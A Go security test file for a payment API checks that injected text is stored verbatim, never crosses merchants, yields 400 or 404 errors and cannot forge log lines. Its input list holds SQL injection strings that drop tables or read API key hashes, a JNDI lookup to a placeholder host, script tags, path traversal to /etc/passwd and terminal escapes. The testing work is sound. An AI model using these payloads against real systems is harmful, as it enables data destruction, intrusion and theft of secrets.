package security

import (
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/uuid"

	"github.com/payonce/payonce/test/service"
)

// hostile are texts that mean something in SQL, in a log, in a terminal, in a page or in a template.
func hostile() []string {
	return []string{
		`'; DROP TABLE orders; --` + canary, `' OR '1'='1` + canary, `" OR ""="` + canary, `'||(SELECT secret_hash FROM api_keys LIMIT 1)||'` + canary,
		`1; UPDATE api_keys SET revoked_at = now() --` + canary, `$1 ` + canary, `%_` + canary + `%`, `\'` + canary, `\x27` + canary,
		`*/ SELECT pg_sleep(9) /*` + canary, `{"$gt":""}` + canary,
		`E'\\047'` + canary, "line\n{\"level\":\"INFO\",\"msg\":\"request\",\"" + canary + "\":\"forged\"}",
		"line\r\ntime=2026-01-01T00:00:00Z level=ERROR msg=" + canary,
		"\x1b[2J\x1b[31m" + canary + "\x1b[0m", "\u2028" + canary + "\u2029", "\u0085" + canary, "\u202e" + canary,
		"\ufeff" + canary, "<script>alert('" + canary + "')</script>",
		"${jndi:ldap://" + canary + ".example/a}", "{{7*7}}" + canary, "%s%n%x" + canary, "../../etc/passwd" + canary, "é😀" + canary,
		`"` + canary, `\` + canary, "\\u0000" + canary, "a\tb" + canary,
	}
}

// injection: texts stay texts, wherever they stand.
func (s *target) injection(t *testing.T) {
	victim, bystander := s.merchant(t), s.merchant(t)
	bystander.order(t)
	made := 0
	for i, text := range hostile() {
		made += victim.storesVerbatim(t, i, text)
		victim.filtersByNothingElse(t, text)
		victim.namesNothing(t, text)
	}
	if n := victim.number(t, "SELECT count(*) FROM orders WHERE merchant_id = $1"); n != int64(made) {
		t.Errorf("%d orders, not %d", n, made)
	}
	if n := victim.number(t, "SELECT count(*) FROM payments WHERE merchant_id = $1"); n != 0 {
		t.Errorf("%d payments", n)
	}
	if n := bystander.number(t, "SELECT count(*) FROM orders WHERE merchant_id = $1"); n != 1 {
		t.Errorf("the bystander has %d orders, not 1", n)
	}
	service.Wants(t, "the API key still opens", bystander.send(t, "GET", "/v1/orders", "", ""), 200, "")
}

func quote(text string) string {
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err)
	}
	return string(quoted)
}

// storesVerbatim makes an order of the text and reads it back. It returns how many orders were made.
func (m *merchant) storesVerbatim(t *testing.T, i int, text string) (made int) {
	t.Helper()
	metadata := fmt.Sprintf(`{%s:%s}`, quote(fmt.Sprint(i, "'\"\\;--", "\n")), quote(text))
	body := fmt.Sprintf(`{"amount":100,"currency":"EUR","metadata":%s`, metadata)
	withControl := strings.ContainsFunc(text, unicode.IsControl)
	plain := m.send(t, "POST", "/v1/orders", uuid.NewString(), body+"}")
	service.Wants(t, text, plain, 201, "")
	made++
	named := m.send(t, "POST", "/v1/orders", uuid.NewString(), body+`,"reference":`+quote(text)+`,"items":[{"name":`+quote(text)+`,"quantity":1,"unit_amount":100}]}`)
	if withControl {
		service.Wants(t, text, named, 422, "validation-failed")
		named = plain
	} else {
		service.Wants(t, text, named, 201, "")
		made++
	}
	var read struct {
		Reference *string
		Items     []struct{ Name string }
		Metadata  map[string]string
	}
	m.send(t, "GET", "/v1/orders/"+named.Field("id"), "", "").JSON(t, &read)
	var want map[string]string
	if err := json.Unmarshal([]byte(metadata), &want); err != nil || fmt.Sprint(read.Metadata) != fmt.Sprint(want) {
		t.Errorf("%q: the metadata is %q, %v", text, read.Metadata, err)
	}
	if !withControl && (*read.Reference != text || read.Items[0].Name != text) {
		t.Errorf("%q came back as %q and %q", text, *read.Reference, read.Items[0].Name)
	}
	for _, field := range []string{
		`{"amount":1,"currency":%s}`, `{"amount":1,"currency":"EUR","metadata":{"a":"b"},"reference":"","x":%s}`,
	} {
		if resp := m.send(t, "POST", "/v1/orders", uuid.NewString(), fmt.Sprintf(field, quote(text))); resp.Status != 422 && resp.Status != 400 {
			t.Errorf("%q: %s", text, resp)
		}
	}
	order := named.Field("id")
	for _, body := range []string{
		`{"order_id":%s,"payment_method":"pm_card_visa"}`, `{"order_id":"` + order + `","payment_method":%s}`,
		`{"order_id":"` + order + `","payment_method":"pm_card_visa","capture_method":%s}`,
	} {
		if resp := m.send(t, "POST", "/v1/payments", uuid.NewString(), fmt.Sprintf(body, quote(text))); resp.Status != 422 && resp.Status != 404 {
			t.Errorf("%q: %s", text, resp)
		}
	}
	return made
}

// filtersByNothingElse: as a parameter the text finds the order that has it, and never another.
func (m *merchant) filtersByNothingElse(t *testing.T, text string) {
	t.Helper()
	var page struct{ Data []struct{ Reference string } }
	m.send(t, "GET", "/v1/orders?reference="+url.QueryEscape(text), "", "").JSON(t, &page)
	if len(page.Data) > 1 || len(page.Data) == 1 && page.Data[0].Reference != text {
		t.Errorf("%q finds %v", text, page.Data)
	}
	for _, query := range []string{
		"/v1/orders?status=", "/v1/orders?status=paid", "/v1/orders?limit=", "/v1/orders?limit=1", "/v1/orders?cursor=",
		"/v1/payments?order_id=", "/v1/payments?status=",
		"/v1/events?cursor=", "/v1/events?limit=", "/v1/balance?currency=", "/v1/orders?sort=", "/v1/orders?merchant_id=",
	} {
		service.Wants(t, query+text, m.send(t, "GET", query+url.QueryEscape(text), "", ""), 400, "malformed-request")
	}
	resp := m.send(t, "GET", "/v1/orders?"+url.QueryEscape(text)+"=1", "", "")
	service.Wants(t, "as a parameter's name", resp, 400, "malformed-request")
	for _, bytes := range []string{"%00", "%ff", "%c0%af", "%ed%a0%80", "%zz", "%"} { // no text at all
		resp := m.send(t, "GET", "/v1/orders?reference="+url.QueryEscape(text)+bytes, "", "")
		service.Wants(t, "with "+bytes, resp, 400, "malformed-request")
	}
}

// namesNothing: as an id the text is a 404; as a key it is refused, or a key like any other.
func (m *merchant) namesNothing(t *testing.T, text string) {
	t.Helper()
	escaped := url.PathEscape(text)
	for _, path := range []string{"/v1/orders/", "/v1/payments/", "/v1/events/", "/v1/orders/ord_", "/problems/", "/swagger/", "/"} {
		service.Wants(t, path+text, m.send(t, "GET", path+escaped, "", ""), 404, "not-found")
	}
	service.Wants(t, "cancel", m.send(t, "POST", "/v1/orders/"+escaped+"/cancel", uuid.NewString(), ""), 404, "not-found")
	printable := !strings.ContainsFunc(text, func(r rune) bool { return r < 0x20 || r > 0x7e }) && utf8.ValidString(text)
	key := `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(text) + `"`
	line := strings.Map(oneLine, text)
	resp := m.target.one(t, m.raw("GET", "/v1/orders", "", "Idempotency-Key: "+strings.Map(oneLine, key), "User-Agent: "+line, "Referer: "+line))
	if resp.Status != 200 && !byServer(resp) {
		t.Errorf("in headers: %s", resp)
	}
	looked := m.send(t, "GET", "/v1/idempotency-keys/"+url.PathEscape(key), "", "")
	if printable {
		service.Wants(t, "a key that was never used", looked, 404, "not-found")
	} else {
		service.Wants(t, "no key", looked, 400, "idempotency-key-invalid")
	}
}

// oneLine drops what would end a header.
func oneLine(r rune) rune {
	if r == '\r' || r == '\n' {
		return -1
	}
	return r
}

// The same with lines for people: none is forged, none is broken, none colours a terminal.
func TestNoLineOfATextLogIsForged(t *testing.T) {
	t.Parallel()
	s := attack(t, service.Options{Env: map[string]string{"LOG_FORMAT": "text"}})
	s.injection(t)
	s.one(t, s.mine.raw("A'$*+-.^_`|~B", "/v1/orders", ""))
	form := regexp.MustCompile(`^(time=\S+ level=(DEBUG|INFO|WARN|ERROR) msg=.*|(admin )?listening on http://\S+)$`)
	var lines []string
	service.Until(t, "every request has its line", func() bool {
		lines = strings.Split(strings.TrimSpace(s.service.Log()), "\n")
		return count(lines, " msg=request ") >= s.requests(t)
	})
	for _, line := range lines {
		if !form.MatchString(line) || strings.Contains(line, canary) || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("the line %q", line)
		}
	}
	if n := count(lines, " msg=request "); n != s.requests(t) {
		t.Errorf("%d lines for %d requests", n, s.requests(t))
	}
}
